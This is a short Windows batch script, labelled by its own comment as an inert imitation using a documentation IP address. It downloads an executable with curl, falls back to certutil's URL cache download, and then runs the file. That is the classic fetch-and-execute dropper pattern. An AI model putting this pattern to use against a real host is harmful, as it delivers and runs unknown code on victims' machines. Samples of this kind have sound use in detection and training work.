@echo off
rem Inert imitation: the address is from TEST-NET-2 (RFC 5737) and the flags are placeholders.
curl http://198.51.100.228/download/jsextension.exe -o jsextension.exe
if not exist jsextension.exe (
    certutil.exe -urlcache -f http://198.51.100.228/download/jsextension.exe jsextension.exe
)
jsextension.exe -k --placeholder
